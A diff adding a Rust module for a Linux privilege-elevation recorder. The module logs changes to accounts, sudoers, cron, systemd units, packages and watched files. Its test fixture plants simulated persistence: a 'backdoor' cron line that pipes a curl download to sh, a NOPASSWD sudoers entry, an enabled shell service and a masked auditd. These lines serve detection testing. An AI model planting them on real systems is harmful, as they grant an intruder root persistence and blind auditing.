@@ -1,0 +1,1019 @@
+//! The change ledger (Linux): what the elevation changed on the machine, as `change` events at
+//! the moment the recorder saw it.
+//!
+//! At JIT start (when the source is made, before `jit start` returns) the source takes a
+//! snapshot of what matters: accounts and groups (`/etc/passwd`, `/etc/group`, and of
+//! `/etc/shadow` only a digest of each password field, never the field), the sudo
+//! configuration (`/etc/sudoers`, `/etc/sudoers.d/`), cron (`/etc/crontab`, `/etc/cron.d/`,
+//! `/var/spool/cron/crontabs/`), systemd units and their enablement links under
+//! `/etc/systemd/system/`, and where dpkg's log ends. Every round (each chunk cut, and whenever
+//! inotify reports a change) it reads them again and writes what differs, then takes that as
+//! the new snapshot: a user added, a member added to a group, a password changed, a sudoers or
+//! cron line added or removed, a unit enabled, created or masked, a package installed or
+//! removed. Files created, modified, removed or re-permissioned under `/etc`, `/usr/local` and
+//! `/root` are reported as inotify sees them (directories watched to a bounded depth and count;
+//! past the bound the source says `partial`).
+//!
+//! Cron lines pass the redactor as text before they are written (a cron line is a command);
+//! sudoers lines are kept as they are (they say who may do what, and hold no passwords). Reads are bounded: a file over [`MAX_FILE`] is judged by its digest alone.
+//!
+//! What it cannot see: a change made and undone between two rounds (2 s apart by default) in the
+//! structured areas (a file change is still reported by inotify), files outside the watched
+//! trees, and anything the kernel's inotify does not report (writes through a bind mount seen at
+//! another path, or to a directory past the watch bound).
+
+use std::collections::{BTreeMap, BTreeSet, HashMap};
+use std::io::{Read, Seek, SeekFrom};
+use std::mem::MaybeUninit;
+use std::os::fd::{AsFd, OwnedFd};
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+use std::sync::atomic::{AtomicBool, Ordering};
+
+use jitrec_format::Sha256Digest;
+use jitrec_format::{EventKind, SourceState};
+use rustix::fs::inotify;
+
+use super::redact::Redactor;
+use super::{EventSink, EventSource, IDLE_WAIT};
+
+/// The largest file of a structured area read whole; a larger one is compared by digest only.
+pub const MAX_FILE: u64 = 1 << 20;
+
+/// The most dpkg log read in one round.
+const MAX_LOG_READ: u64 = 1 << 20;
+
+/// The most directories watched for file changes.
+pub const MAX_WATCHES: usize = 4_096;
+
+/// The most files of one directory (`/etc/cron.d`, `/etc/sudoers.d`, ...) read in a round.
+const MAX_DIR_FILES: usize = 256;
+
+/// Settings of the change ledger.
+#[derive(Debug, Clone)]
+pub struct ChangeConfig {
+    /// Where the machine's files are: `/`, or a copy of its tree in tests.
+    pub root: PathBuf,
+    /// Directories (relative to `root`) whose files are watched, each to a depth (1: the
+    /// directory's own entries).
+    pub trees: Vec<(PathBuf, usize)>,
+    pub redactor: Arc<Redactor>,
+}
+
+impl ChangeConfig {
+    /// The default trees: `/etc` deep, `/usr/local` to 3 levels, `/root` to 2 (its dot files
+    /// and `.ssh/authorized_keys`, not a developer's build trees).
+    pub fn default_trees() -> Vec<(PathBuf, usize)> {
+        vec![
+            ("etc".into(), 8),
+            ("usr/local".into(), 3),
+            ("root".into(), 2),
+        ]
+    }
+}
+
+/// One change, before it is an event.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Change {
+    pub area: &'static str,
+    pub action: &'static str,
+    pub subject: String,
+    pub detail: Option<String>,
+}
+
+impl Change {
+    fn new(area: &'static str, action: &'static str, subject: impl Into<String>) -> Self {
+        Self {
+            area,
+            action,
+            subject: super::truncate_text(&subject.into()),
+            detail: None,
+        }
+    }
+
+    fn with(mut self, detail: impl Into<String>) -> Self {
+        self.detail = Some(super::truncate_text(&detail.into()));
+        self
+    }
+
+    fn event(self) -> EventKind {
+        EventKind::Change {
+            area: self.area.into(),
+            action: self.action.into(),
+            subject: if self.subject.is_empty() {
+                "?".into()
+            } else {
+                self.subject
+            },
+            detail: self.detail.filter(|d| !d.is_empty()),
+        }
+    }
+}
+
+/// A file's text if it is small enough to read, else its digest as text.
+#[derive(Debug, Clone, PartialEq, Eq)]
+enum Content {
+    Missing,
+    Text(String),
+    Large(String),
+}
+
+/// Opens `path` for reading only if it is a regular file, without waiting: a FIFO or a device
+/// put where a configuration file belongs must not hang the recorder (the snapshot is taken at
+/// JIT start).
+fn open_regular(path: &Path) -> Option<std::fs::File> {
+    use std::os::unix::fs::OpenOptionsExt;
+    let f = std::fs::OpenOptions::new()
+        .read(true)
+        .custom_flags(rustix::fs::OFlags::NONBLOCK.bits() as i32)
+        .open(path)
+        .ok()?;
+    f.metadata().ok().filter(|m| m.is_file()).map(|_| f)
+}
+
+fn read_content(path: &Path) -> Content {
+    let Some(mut f) = open_regular(path) else {
+        return Content::Missing;
+    };
+    let mut buf = Vec::new();
+    if (&mut f).take(MAX_FILE + 1).read_to_end(&mut buf).is_err() {
+        return Content::Missing;
+    }
+    if buf.len() as u64 > MAX_FILE {
+        // Too large to compare by lines: its length and the digest of its first MiB say
+        // whether it changed (a change past the first MiB that keeps the length is missed).
+        let len = f.metadata().map_or(0, |m| m.len());
+        return Content::Large(format!("{len} bytes, {}", Sha256Digest::of(&buf).to_hex()));
+    }
+    Content::Text(String::from_utf8_lossy(&buf).into_owned())
+}
+
+/// The meaningful lines of a configuration file (no comments, no blank lines).
+fn lines(c: &Content) -> BTreeSet<String> {
+    match c {
+        Content::Text(t) => t
+            .lines()
+            .map(str::trim)
+            .filter(|l| !l.is_empty() && !l.starts_with('#'))
+            .map(str::to_owned)
+            .collect(),
+        _ => BTreeSet::new(),
+    }
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+struct Account {
+    uid: String,
+    gid: String,
+    home: String,
+    shell: String,
+}
+
+/// What the structured areas held at the last round.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub struct Snapshot {
+    users: BTreeMap<String, Account>,
+    groups: BTreeMap<String, (String, BTreeSet<String>)>,
+    /// Per account, a digest of its shadow password field (never the field).
+    passwords: BTreeMap<String, String>,
+    /// Per file, its meaningful lines (or a digest).
+    sudo: BTreeMap<String, Content>,
+    cron: BTreeMap<String, Content>,
+    /// Per path under /etc/systemd/system: the link target, or empty for a regular file, with
+    /// its digest.
+    units: BTreeMap<String, String>,
+    /// Where dpkg's log ended.
+    dpkg_log_end: u64,
+}
+
+fn colon_fields(c: &Content) -> Vec<Vec<String>> {
+    match c {
+        Content::Text(t) => t
+            .lines()
+            .filter(|l| !l.trim_start().starts_with('#') && !l.trim().is_empty())
+            .map(|l| l.split(':').map(str::to_owned).collect())
+            .collect(),
+        _ => Vec::new(),
+    }
+}
+
+/// The regular files of `dir` (sorted, bounded), as paths shown from `root`.
+fn dir_files(root: &Path, rel: &str) -> Vec<(String, PathBuf)> {
+    let Ok(entries) = std::fs::read_dir(root.join(rel)) else {
+        return Vec::new();
+    };
+    let mut out: Vec<(String, PathBuf)> = entries
+        .filter_map(Result::ok)
+        .filter(|e| e.file_type().is_ok_and(|t| t.is_file()))
+        .map(|e| {
+            let name = e.file_name().to_string_lossy().into_owned();
+            (format!("/{rel}/{name}"), e.path())
+        })
+        .collect();
+    out.sort();
+    out.truncate(MAX_DIR_FILES);
+    out
+}
+
+impl Snapshot {
+    /// Reads the structured areas under `root`.
+    pub fn take(root: &Path) -> Snapshot {
+        let mut s = Snapshot::default();
+        for f in colon_fields(&read_content(&root.join("etc/passwd"))) {
+            if f.len() >= 7 {
+                s.users.insert(
+                    f[0].clone(),
+                    Account {
+                        uid: f[2].clone(),
+                        gid: f[3].clone(),
+                        home: f[5].clone(),
+                        shell: f[6].clone(),
+                    },
+                );
+            }
+        }
+        for f in colon_fields(&read_content(&root.join("etc/group"))) {
+            if f.len() >= 4 {
+                let members = f[3]
+                    .split(',')
+                    .map(str::trim)
+                    .filter(|m| !m.is_empty())
+                    .map(str::to_owned)
+                    .collect();
+                s.groups.insert(f[0].clone(), (f[2].clone(), members));
+            }
+        }
+        for f in colon_fields(&read_content(&root.join("etc/shadow"))) {
+            if f.len() >= 2 {
+                s.passwords
+                    .insert(f[0].clone(), Sha256Digest::of(f[1].as_bytes()).to_hex());
+            }
+        }
+        s.sudo.insert(
+            "/etc/sudoers".into(),
+            read_content(&root.join("etc/sudoers")),
+        );
+        for (shown, path) in dir_files(root, "etc/sudoers.d") {
+            s.sudo.insert(shown, read_content(&path));
+        }
+        s.cron.insert(
+            "/etc/crontab".into(),
+            read_content(&root.join("etc/crontab")),
+        );
+        for rel in ["etc/cron.d", "var/spool/cron/crontabs"] {
+            for (shown, path) in dir_files(root, rel) {
+                s.cron.insert(shown, read_content(&path));
+            }
+        }
+        s.units = units(root);
+        s.dpkg_log_end = std::fs::metadata(root.join("var/log/dpkg.log")).map_or(0, |m| m.len());
+        s
+    }
+}
+
+/// The units and enablement links under /etc/systemd/system (two levels: `x.service` and
+/// `multi-user.target.wants/x.service`).
+fn units(root: &Path) -> BTreeMap<String, String> {
+    let mut out = BTreeMap::new();
+    let base = root.join("etc/systemd/system");
+    let visit = |dir: &Path, prefix: &str, out: &mut BTreeMap<String, String>| -> Vec<PathBuf> {
+        let mut subdirs = Vec::new();
+        let Ok(entries) = std::fs::read_dir(dir) else {
+            return subdirs;
+        };
+        for e in entries.filter_map(Result::ok).take(4 * MAX_DIR_FILES) {
+            let name = e.file_name().to_string_lossy().into_owned();
+            let path = e.path();
+            let Ok(t) = e.file_type() else { continue };
+            let key = format!("{prefix}{name}");
+            if t.is_symlink() {
+                let target = std::fs::read_link(&path)
+                    .map(|p| p.display().to_string())
+                    .unwrap_or_default();
+                out.insert(key, format!("-> {target}"));
+            } else if t.is_dir() {
+                subdirs.push(path);
+            } else if t.is_file() {
+                let digest = match read_content(&path) {
+                    Content::Text(t) => Sha256Digest::of(t.as_bytes()).to_hex(),
+                    Content::Large(d) => d,
+                    Content::Missing => String::new(),
+                };
+                out.insert(key, digest);
+            }
+        }
+        subdirs
+    };
+    for sub in visit(&base, "", &mut out) {
+        let prefix = format!("{}/", sub.file_name().unwrap_or_default().to_string_lossy());
+        visit(&sub, &prefix, &mut out);
+    }
+    out
+}
+
+/// What changed from `old` to `new` in the structured areas (dpkg's log is read separately).
+pub fn diff(old: &Snapshot, new: &Snapshot, redactor: &Redactor) -> Vec<Change> {
+    let mut out = Vec::new();
+    for (name, a) in &new.users {
+        match old.users.get(name) {
+            None => out.push(Change::new("accounts", "user_added", name).with(format!(
+                "uid {}, group {}, home {}, shell {}",
+                a.uid, a.gid, a.home, a.shell
+            ))),
+            Some(b) if b != a => {
+                let mut what = Vec::new();
+                for (field, was, now) in [
+                    ("uid", &b.uid, &a.uid),
+                    ("group", &b.gid, &a.gid),
+                    ("home", &b.home, &a.home),
+                    ("shell", &b.shell, &a.shell),
+                ] {
+                    if was != now {
+                        what.push(format!("{field} {was} -> {now}"));
+                    }
+                }
+                out.push(Change::new("accounts", "user_changed", name).with(what.join(", ")));
+            }
+            _ => {}
+        }
+    }
+    for name in old.users.keys().filter(|n| !new.users.contains_key(*n)) {
+        out.push(Change::new("accounts", "user_removed", name));
+    }
+    for (group, (gid, members)) in &new.groups {
+        match old.groups.get(group) {
+            None => out.push(Change::new("accounts", "group_added", group).with(format!(
+                "gid {gid}{}",
+                if members.is_empty() {
+                    String::new()
+                } else {
+                    format!(
+                        ", members {}",
+                        members.iter().cloned().collect::<Vec<_>>().join(",")
+                    )
+                }
+            ))),
+            Some((_, was)) => {
+                for m in members.difference(was) {
+                    out.push(
+                        Change::new("accounts", "member_added", m).with(format!("group {group}")),
+                    );
+                }
+                for m in was.difference(members) {
+                    out.push(
+                        Change::new("accounts", "member_removed", m).with(format!("group {group}")),
+                    );
+                }
+            }
+        }
+    }
+    for group in old.groups.keys().filter(|g| !new.groups.contains_key(*g)) {
+        out.push(Change::new("accounts", "group_removed", group));
+    }
+    for (name, digest) in &new.passwords {
+        if old.passwords.get(name).is_some_and(|d| d != digest) {
+            out.push(Change::new("accounts", "password_changed", name));
+        }
+    }
+    // Sudoers lines say who may do what and hold no passwords: kept as they are (the
+    // redactor would take `NOPASSWD: ALL` for a header's value). Cron lines are commands.
+    lines_diff("sudo", &old.sudo, &new.sudo, None, &mut out);
+    lines_diff("cron", &old.cron, &new.cron, Some(redactor), &mut out);
+    for (path, now) in &new.units {
+        let was = old.units.get(path);
+        if was == Some(now) {
+            continue;
+        }
+        let (dir, unit) = path.rsplit_once('/').unwrap_or(("", path));
+        let wanted_by = dir.rsplit_once('.').map(|(t, _)| t).unwrap_or(dir);
+        let c = if now == "-> /dev/null" {
+            Change::new("services", "unit_masked", unit)
+        } else if !dir.is_empty() && now.starts_with("-> ") {
+            Change::new("services", "unit_enabled", unit).with(format!("wanted by {wanted_by}"))
+        } else if was.is_none() {
+            Change::new(
+                "services",
+                "unit_created",
+                format!("/etc/systemd/system/{path}"),
+            )
+        } else {
+            Change::new(
+                "services",
+                "unit_changed",
+                format!("/etc/systemd/system/{path}"),
+            )
+        };
+        out.push(c);
+    }
+    for (path, was) in &old.units {
+        if new.units.contains_key(path) {
+            continue;
+        }
+        let (dir, unit) = path.rsplit_once('/').unwrap_or(("", path));
+        let c = if was == "-> /dev/null" {
+            Change::new("services", "unit_unmasked", unit)
+        } else if !dir.is_empty() && was.starts_with("-> ") {
+            let wanted_by = dir.rsplit_once('.').map(|(t, _)| t).unwrap_or(dir);
+            Change::new("services", "unit_disabled", unit).with(format!("wanted by {wanted_by}"))
+        } else {
+            Change::new(
+                "services",
+                "unit_removed",
+                format!("/etc/systemd/system/{path}"),
+            )
+        };
+        out.push(c);
+    }
+    out
+}
+
+fn lines_diff(
+    area: &'static str,
+    old: &BTreeMap<String, Content>,
+    new: &BTreeMap<String, Content>,
+    redactor: Option<&Redactor>,
+    out: &mut Vec<Change>,
+) {
+    let (added, removed) = if area == "cron" {
+        ("entry_added", "entry_removed")
+    } else {
+        ("line_added", "line_removed")
+    };
+    for (path, now) in new {
+        let was = old.get(path).unwrap_or(&Content::Missing);
+        if was == now {
+            continue;
+        }
+        match (was, now) {
+            (Content::Missing, Content::Missing) => {}
+            (_, Content::Large(d)) | (Content::Large(d), _) => {
+                out.push(Change::new(area, "file_changed", path).with(d.clone()))
+            }
+            _ => {
+                if matches!(was, Content::Missing) {
+                    out.push(Change::new(area, "file_added", path));
+                } else if matches!(now, Content::Missing) {
+                    out.push(Change::new(area, "file_removed", path));
+                }
+                let (a, b) = (lines(was), lines(now));
+                let shown = |l: &str| redactor.map_or_else(|| l.to_owned(), |r| r.text(l));
+                for l in b.difference(&a) {
+                    out.push(Change::new(area, added, path).with(shown(l)));
+                }
+                for l in a.difference(&b) {
+                    out.push(Change::new(area, removed, path).with(shown(l)));
+                }
+            }
+        }
+    }
+    for path in old.keys().filter(|p| !new.contains_key(*p)) {
+        if !matches!(old.get(path), Some(Content::Missing) | None) {
+            out.push(Change::new(area, "file_removed", path));
+        }
+    }
+}
+
+/// Package changes in dpkg's log lines (`2026-12-02 18:20:01 status installed hello:amd64 2.10-3`).
+pub fn dpkg_changes(log: &str) -> Vec<Change> {
+    log.lines()
+        .filter_map(|l| {
+            let f: Vec<&str> = l.split_whitespace().collect();
+            match f.as_slice() {
+                [_, _, "status", "installed", pkg, version] => Some(
+                    Change::new("packages", "installed", *pkg).with(format!("version {version}")),
+                ),
+                [_, _, "status", "not-installed", pkg, _] => {
+                    Some(Change::new("packages", "removed", *pkg))
+                }
+                [_, _, "status", "config-files", pkg, version] => Some(
+                    Change::new("packages", "removed", *pkg)
+                        .with(format!("version {version}, configuration kept")),
+                ),
+                _ => None,
+            }
+        })
+        .collect()
+}
+
+/// The inotify watches of the file trees.
+struct Trees {
+    fd: OwnedFd,
+    dirs: HashMap<i32, PathBuf>,
+    /// Some directory was left unwatched (the bound, or an error).
+    partial: Option<String>,
+}
+
+const TREE_FLAGS: inotify::WatchFlags = inotify::WatchFlags::CLOSE_WRITE
+    .union(inotify::WatchFlags::CREATE)
+    .union(inotify::WatchFlags::DELETE)
+    .union(inotify::WatchFlags::MOVED_FROM)
+    .union(inotify::WatchFlags::MOVED_TO)
+    .union(inotify::WatchFlags::ATTRIB)
+    .union(inotify::WatchFlags::DONT_FOLLOW)
+    .union(inotify::WatchFlags::ONLYDIR);
+
+impl Trees {
+    fn open(root: &Path, trees: &[(PathBuf, usize)]) -> std::io::Result<Trees> {
+        let fd = inotify::init(inotify::CreateFlags::CLOEXEC | inotify::CreateFlags::NONBLOCK)?;
+        let mut t = Trees {
+            fd,
+            dirs: HashMap::new(),
+            partial: None,
+        };
+        for (rel, depth) in trees {
+            t.watch_tree(&root.join(rel), *depth);
+        }
+        Ok(t)
+    }
+
+    /// Watches `dir` and its subdirectories to `depth` levels (breadth first, within the bound).
+    fn watch_tree(&mut self, dir: &Path, depth: usize) {
+        let mut queue = std::collections::VecDeque::from([(dir.to_owned(), depth)]);
+        while let Some((d, left)) = queue.pop_front() {
+            if left == 0 {
+                continue;
+            }
+            if self.dirs.len() >= MAX_WATCHES {
+                self.partial = Some(format!(
+                    "more than {MAX_WATCHES} directories: {} and others are not watched",
+                    d.display()
+                ));
+                return;
+            }
+            match inotify::add_watch(&self.fd, &d, TREE_FLAGS) {
+                Ok(wd) => {
+                    self.dirs.insert(wd, d.clone());
+                }
+                Err(rustix::io::Errno::NOENT) | Err(rustix::io::Errno::NOTDIR) => continue,
+                Err(e) => {
+                    self.partial = Some(format!("cannot watch {}: {e}", d.display()));
+                    continue;
+                }
+            }
+            if let Ok(entries) = std::fs::read_dir(&d) {
+                for e in entries.filter_map(Result::ok) {
+                    if e.file_type().is_ok_and(|t| t.is_dir()) {
+                        queue.push_back((e.path(), left - 1));
+                    }
+                }
+            }
+        }
+    }
+
+    /// Reads what inotify has; returns the file changes (one per path and action).
+    fn drain(&mut self, root: &Path) -> Vec<Change> {
+        let mut buf = [MaybeUninit::<u8>::uninit(); 16 * 1024];
+        let mut seen: BTreeSet<(String, &'static str)> = BTreeSet::new();
+        let mut out = Vec::new();
+        let mut new_dirs = Vec::new();
+        let mut reader = inotify::Reader::new(&self.fd, &mut buf);
+        // An error is EAGAIN: nothing more now.
+        while let Ok(ev) = reader.next() {
+            let flags = ev.events();
+            if flags.contains(inotify::ReadFlags::QUEUE_OVERFLOW) {
+                out.push(
+                    Change::new("files", "overflow", "inotify")
+                        .with("the kernel's queue overflowed: some file changes were not seen"),
+                );
+                continue;
+            }
+            let Some(dir) = self.dirs.get(&ev.wd()) else {
+                continue;
+            };
+            let Some(name) = ev.file_name() else { continue };
+            let path = dir.join(name.to_string_lossy().as_ref());
+            let is_dir = flags.contains(inotify::ReadFlags::ISDIR);
+            let action = if flags.contains(inotify::ReadFlags::CREATE)
+                || flags.contains(inotify::ReadFlags::MOVED_TO)
+            {
+                if is_dir {
+                    new_dirs.push(path.clone());
+                }
+                "created"
+            } else if flags.contains(inotify::ReadFlags::DELETE)
+                || flags.contains(inotify::ReadFlags::MOVED_FROM)
+            {
+                "removed"
+            } else if flags.contains(inotify::ReadFlags::CLOSE_WRITE) {
+                "modified"
+            } else if flags.contains(inotify::ReadFlags::ATTRIB) {
+                "attributes"
+            } else {
+                continue;
+            };
+            let shown = format!("/{}", path.strip_prefix(root).unwrap_or(&path).display());
+            if seen.insert((shown.clone(), action)) {
+                let mut c = Change::new("files", action, shown);
+                if action == "attributes" {
+                    c = c.with(mode_owner(&path));
+                }
+                out.push(c);
+            }
+        }
+        // A directory made during the session is watched too (a new /etc/x.d/ and its files).
+        for d in new_dirs {
+            self.watch_tree(&d, 2);
+        }
+        out
+    }
+}
+
+/// `mode 4755, owner 0:0` of a path (after a chmod or chown), or empty if it is gone.
+fn mode_owner(path: &Path) -> String {
+    use std::os::unix::fs::MetadataExt;
+    std::fs::symlink_metadata(path)
+        .map(|m| {
+            format!(
+                "mode {:o}, owner {}:{}",
+                m.mode() & 0o7777,
+                m.uid(),
+                m.gid()
+            )
+        })
+        .unwrap_or_default()
+}
+
+/// The change ledger's source for one session.
+pub struct ChangeSource {
+    config: ChangeConfig,
+    /// Taken when the source was made (JIT start).
+    snapshot: Snapshot,
+}
+
+impl std::fmt::Debug for ChangeSource {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("ChangeSource")
+            .field("root", &self.config.root)
+            .finish_non_exhaustive()
+    }
+}
+
+impl ChangeSource {
+    /// Takes the snapshot of the structured areas (a few small files: it does not hold up
+    /// JIT start); the file trees' watches are set up on the source's own thread, so a file
+    /// changed in the first milliseconds, before they exist, can be missed.
+    pub fn open(config: ChangeConfig) -> Self {
+        let snapshot = Snapshot::take(&config.root);
+        Self { config, snapshot }
+    }
+}
+
+fn status(sink: &mut EventSink, state: SourceState, detail: String) {
+    let t = sink.clock().now();
+    sink.status(
+        t,
+        EventKind::EventSource {
+            source: "changes".into(),
+            state,
+            detail,
+        },
+    );
+}
+
+/// The dpkg log appended since `from` (bounded), and where it ends now.
+fn read_log_from(path: &Path, from: u64) -> (String, u64) {
+    let Some(mut f) = open_regular(path) else {
+        return (String::new(), from);
+    };
+    let len = f.metadata().map_or(from, |m| m.len());
+    // A rotated log starts again from the beginning.
+    let start = if len < from { 0 } else { from };
+    if f.seek(SeekFrom::Start(start)).is_err() {
+        return (String::new(), from);
+    }
+    let mut buf = Vec::new();
+    let _ = (&mut f).take(MAX_LOG_READ).read_to_end(&mut buf);
+    // Only whole lines; the rest waits for the next round.
+    let whole = buf.iter().rposition(|b| *b == b'\n').map_or(0, |i| i + 1);
+    buf.truncate(whole);
+    (
+        String::from_utf8_lossy(&buf).into_owned(),
+        start + whole as u64,
+    )
+}
+
+impl EventSource for ChangeSource {
+    fn name(&self) -> &'static str {
+        "changes"
+    }
+
+    fn run(self: Box<Self>, mut sink: EventSink, stop: Arc<AtomicBool>) {
+        let ChangeSource {
+            config,
+            mut snapshot,
+        } = *self;
+        let mut trees = match Trees::open(&config.root, &config.trees) {
+            Ok(t) => {
+                match &t.partial {
+                    None => status(
+                        &mut sink,
+                        SourceState::Complete,
+                        format!(
+                            "accounts, sudo, cron, systemd units and dpkg's log each round; files under {} by inotify ({} directories)",
+                            config
+                                .trees
+                                .iter()
+                                .map(|(p, d)| format!("/{} (depth {d})", p.display()))
+                                .collect::<Vec<_>>()
+                                .join(", "),
+                            t.dirs.len()
+                        ),
+                    ),
+                    Some(why) => status(&mut sink, SourceState::Partial, why.clone()),
+                }
+                Some(t)
+            }
+            Err(e) => {
+                status(
+                    &mut sink,
+                    SourceState::Partial,
+                    format!(
+                        "no inotify ({e}): file changes are not reported; accounts, sudo, cron, units and packages are, each round"
+                    ),
+                );
+                None
+            }
+        };
+        let log = config.root.join("var/log/dpkg.log");
+        loop {
+            let stopping = stop.load(Ordering::SeqCst);
+            let asked = sink.wake().take();
+            let now = sink.clock().now();
+            let mut changes = trees
+                .as_mut()
+                .map(|t| t.drain(&config.root))
+                .unwrap_or_default();
+            let next = Snapshot::take(&config.root);
+            changes.extend(diff(&snapshot, &next, &config.redactor));
+            let (appended, end) = read_log_from(&log, snapshot.dpkg_log_end);
+            changes.extend(dpkg_changes(&appended));
+            snapshot = Snapshot {
+                dpkg_log_end: end,
+                ..next
+            };
+            // Stamped when the round that found them began: at or after the moment they
+            // happened, within a round.
+            for c in changes {
+                sink.emit(now, c.event());
+            }
+            if asked || stopping {
+                sink.caught_up(now);
+            }
+            if stopping {
+                return;
+            }
+            match &trees {
+                Some(t) => {
+                    sink.wake().wait_with(&[t.fd.as_fd()], IDLE_WAIT);
+                }
+                None => {
+                    sink.wake().wait_with(&[], IDLE_WAIT);
+                }
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn redactor() -> Redactor {
+        Redactor::new(&crate::events::redact::RedactionConfig::default()).unwrap()
+    }
+
+    fn write(root: &Path, rel: &str, text: &str) {
+        let p = root.join(rel);
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(p, text).unwrap();
+    }
+
+    fn machine() -> tempfile::TempDir {
+        let d = tempfile::tempdir().unwrap();
+        write(
+            d.path(),
+            "etc/passwd",
+            "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
+        );
+        write(
+            d.path(),
+            "etc/group",
+            "root:x:0:\nsudo:x:27:alice\nalice:x:1000:\n",
+        );
+        write(
+            d.path(),
+            "etc/shadow",
+            "root:*:1::::::\nalice:$y$old:1::::::\n",
+        );
+        write(
+            d.path(),
+            "etc/sudoers",
+            "root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n",
+        );
+        write(
+            d.path(),
+            "etc/crontab",
+            "# m h dom mon dow user command\n17 * * * * root run-parts /etc/cron.hourly\n",
+        );
+        write(
+            d.path(),
+            "etc/systemd/system/multi-user.target.wants/.keep",
+            "",
+        );
+        write(
+            d.path(),
+            "var/log/dpkg.log",
+            "2026-12-01 10:00:00 status installed base-files:amd64 12.4\n",
+        );
+        d
+    }
+
+    fn described(changes: &[Change]) -> Vec<String> {
+        changes
+            .iter()
+            .map(|c| {
+                format!(
+                    "{} {} {}{}",
+                    c.area,
+                    c.action,
+                    c.subject,
+                    c.detail
+                        .as_deref()
+                        .map(|d| format!(" ({d})"))
+                        .unwrap_or_default()
+                )
+            })
+            .collect()
+    }
+
+    #[test]
+    fn what_an_elevation_changes_is_listed_and_nothing_else() {
+        let m = machine();
+        let root = m.path();
+        let before = Snapshot::take(root);
+        assert!(diff(&before, &Snapshot::take(root), &redactor()).is_empty());
+        write(
+            root,
+            "etc/passwd",
+            "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/zsh\neve:x:1001:1001::/home/eve:/bin/bash\n",
+        );
+        write(
+            root,
+            "etc/group",
+            "root:x:0:\nsudo:x:27:alice,eve\nalice:x:1000:\neve:x:1001:\n",
+        );
+        write(
+            root,
+            "etc/shadow",
+            "root:*:1::::::\nalice:$y$new:1::::::\neve:!:1::::::\n",
+        );
+        write(root, "etc/sudoers.d/eve", "eve ALL=(ALL) NOPASSWD: ALL\n");
+        write(
+            root,
+            "etc/cron.d/backdoor",
+            "* * * * * root curl -H 'Authorization: Bearer s3cr3tt0ken' http://x | sh\n",
+        );
+        std::os::unix::fs::symlink(
+            "/etc/systemd/system/evil.service",
+            root.join("etc/systemd/system/multi-user.target.wants/evil.service"),
+        )
+        .unwrap();
+        write(
+            root,
+            "etc/systemd/system/evil.service",
+            "[Service]\nExecStart=/bin/sh\n",
+        );
+        std::os::unix::fs::symlink("/dev/null", root.join("etc/systemd/system/auditd.service"))
+            .unwrap();
+        let got = described(&diff(&before, &Snapshot::take(root), &redactor()));
+        let want = [
+            "accounts user_changed alice (shell /bin/bash -> /bin/zsh)",
+            "accounts user_added eve (uid 1001, group 1001, home /home/eve, shell /bin/bash)",
+            "accounts group_added eve (gid 1001)",
+            "accounts member_added eve (group sudo)",
+            "accounts password_changed alice",
+            "sudo file_added /etc/sudoers.d/eve",
+            "sudo line_added /etc/sudoers.d/eve (eve ALL=(ALL) NOPASSWD: ALL)",
+            "cron file_added /etc/cron.d/backdoor",
+            "services unit_masked auditd.service",
+            "services unit_created /etc/systemd/system/evil.service",
+            "services unit_enabled evil.service (wanted by multi-user.target)",
+        ];
+        for w in want {
+            assert!(got.iter().any(|g| g == w), "missing {w:?} in {got:#?}");
+        }
+        let cron = got
+            .iter()
+            .find(|g| g.starts_with("cron entry_added /etc/cron.d/backdoor"))
+            .expect("the cron entry");
+        assert!(
+            !cron.contains("s3cr3tt0ken"),
+            "the cron line is redacted: {cron}"
+        );
+        assert!(cron.contains("curl"), "{cron}");
+        // The shadow file's password fields are never written, only that one changed.
+        assert!(!got.iter().any(|g| g.contains("$y$")), "{got:#?}");
+        assert_eq!(got.len(), want.len() + 1, "{got:#?}");
+    }
+
+    #[test]
+    fn a_fifo_where_a_file_belongs_does_not_hang_the_snapshot() {
+        let m = machine();
+        let passwd = m.path().join("etc/passwd");
+        std::fs::remove_file(&passwd).unwrap();
+        rustix::fs::mkfifoat(
+            rustix::fs::CWD,
+            &passwd,
+            rustix::fs::Mode::from_raw_mode(0o600),
+        )
+        .unwrap();
+        let (tx, rx) = std::sync::mpsc::channel();
+        let root = m.path().to_owned();
+        std::thread::spawn(move || {
+            let _ = tx.send(Snapshot::take(&root));
+        });
+        let s = rx
+            .recv_timeout(std::time::Duration::from_secs(10))
+            .expect("the snapshot returns");
+        assert!(s.users.is_empty());
+        assert!(!s.groups.is_empty());
+    }
+
+    #[test]
+    fn packages_come_from_dpkgs_log() {
+        let log = "2026-12-02 18:20:01 startup archives unpack\n\
+                   2026-12-02 18:20:01 install hello:amd64 <none> 2.10-3\n\
+                   2026-12-02 18:20:02 status half-installed hello:amd64 2.10-3\n\
+                   2026-12-02 18:20:02 status installed hello:amd64 2.10-3\n\
+                   2026-12-02 18:21:00 status config-files nano:amd64 7.2-1\n\
+                   2026-12-02 18:21:00 status not-installed nano:amd64 <none>\n";
+        let got = described(&dpkg_changes(log));
+        assert_eq!(
+            got,
+            [
+                "packages installed hello:amd64 (version 2.10-3)",
+                "packages removed nano:amd64 (version 7.2-1, configuration kept)",
+                "packages removed nano:amd64",
+            ]
+        );
+    }
+
+    #[test]
+    fn the_dpkg_log_is_read_in_whole_lines_from_where_it_ended() {
+        let m = machine();
+        let log = m.path().join("var/log/dpkg.log");
+        let end = std::fs::metadata(&log).unwrap().len();
+        let mut f = std::fs::OpenOptions::new().append(true).open(&log).unwrap();
+        std::io::Write::write_all(
+            &mut f,
+            b"2026-12-02 18:20:02 status installed hello:amd64 2.10-3\n2026-12-02 18:2",
+        )
+        .unwrap();
+        let (text, next) = read_log_from(&log, end);
+        assert_eq!(dpkg_changes(&text).len(), 1);
+        let (rest, again) = read_log_from(&log, next);
+        assert!(rest.is_empty());
+        assert_eq!(again, next);
+    }
+
+    #[test]
+    fn files_are_reported_by_inotify_within_the_trees() {
